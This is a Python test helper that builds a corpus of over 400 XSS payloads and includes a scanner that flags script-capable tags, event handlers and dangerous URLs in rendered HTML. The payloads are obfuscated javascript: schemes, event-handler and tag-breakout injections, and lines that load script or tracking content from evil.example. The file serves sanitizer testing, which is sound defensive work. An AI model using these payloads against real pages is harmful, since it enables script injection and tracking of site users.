"""An XSS corpus, and a checker for what reaches a page.

The vectors follow the families in public sanitizer test corpora (the OWASP XSS
filter evasion cheat sheet, html5sec, DOMPurify's and bleach's tests): script
and event-handler injection, dangerous URL schemes with case, entity and
whitespace obfuscation, Markdown links, images, reference links and autolinks,
attribute breakouts through titles and alt text, raw HTML, SVG and MathML,
frames, forms, <base>, nested and broken tags, fenced-code info strings, bidi and
full-width tricks, and template syntax. Combined with each other they give the
corpus below (well over 400 payloads).
"""

import itertools
from html.parser import HTMLParser

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "\u0001javascript:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "javascript://%0Aalert(1)",
]
LINK_FORMS = [
    "[click]({url})",
    "![img]({url})",
    '[click]({url} "title")',
    "[click][r]\n\n[r]: {url}",
    "<{url}>",
    '<a href="{url}">x</a>',
    '<img src="{url}">',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>go</button></form>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<base href="{url}">',
    '<svg><a xlink:href="{url}"><text>x</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="{url}">x</maction></math>',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<link rel="stylesheet" href="{url}">',
]
RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=# onclick=alert(1)>x</a>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)</script>-->",
    '```"><script>alert(1)</script>\ncode\n```',
    "```js onclick=alert(1)\ncode\n```",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    '[x](https://example.com "t\\" onmouseover=\\"alert(1)")',
    "{{ request.user.password }}",
    "{% csrf_token %}{% debug %}",
    "${alert(1)}",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    '<a href="https://example.com" target=_blank>ok</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<img src="https://evil.example/track.png">',
]
WRAPPERS = ["{p}", "**{p}**", "> {p}", "- {p}", "`{p}`", "| a |\n|---|\n| {p} |"]


def payloads() -> list[str]:
    linked = [form.format(url=url) for form, url in itertools.product(LINK_FORMS, SCHEMES)]
    wrapped = [w.format(p=p) for w, p in itertools.product(WRAPPERS, RAW)]
    return linked + wrapped


class _Scanner(HTMLParser):
    """Collects whatever in a page could run script or load from elsewhere."""

    DANGEROUS_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "meta", "svg",
                      "math", "template", "style", "link", "form", "input", "video", "audio"}  # fmt: skip

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        attrs = dict(attrs)
        if tag == "script" and not (attrs.get("src") or "").startswith("/static/"):
            self.problems.append(f"<script {attrs}>")
        if tag in self.DANGEROUS_TAGS and not self._ours(tag, attrs):
            self.problems.append(f"<{tag} {attrs}>")
        for name, value in attrs.items():
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style":
                self.problems.append(f"{tag} style=")
            if name in ("href", "src", "action", "xlink:href", "formaction", "data") and (
                value.startswith(("javascript:", "vbscript:", "data:"))
                or (name == "src" and value.startswith(("http:", "https:", "//")))
            ):
                self.problems.append(f"{tag} {name}={value[:40]}")

    @staticmethod
    def _ours(tag: str, attrs: dict) -> bool:
        """The app's own forms, inputs, links and meta tags are not user content."""
        if tag in ("form", "input"):
            return True  # the page's own forms; user HTML never keeps these (checked below)
        if tag == "link":
            return (attrs.get("href") or "").startswith("/static/")
        if tag == "template":
            return attrs.get("id") == "faq-empty-form"  # the editor's blank FAQ entry
        if tag == "meta":
            return attrs.get("name") in ("viewport", "htmx-config") or "charset" in attrs
        return False


def problems_in(html: str) -> list[str]:
    scanner = _Scanner()
    scanner.feed(html)
    return scanner.problems


def user_html_problems(fragment: str) -> list[str]:
    """For sanitised user HTML alone, where no form or input may appear at all."""
    found = problems_in(fragment)
    lowered = fragment.lower()
    found += [f"<{t}" for t in ("form", "input", "button", "textarea") if f"<{t}" in lowered]
    return found
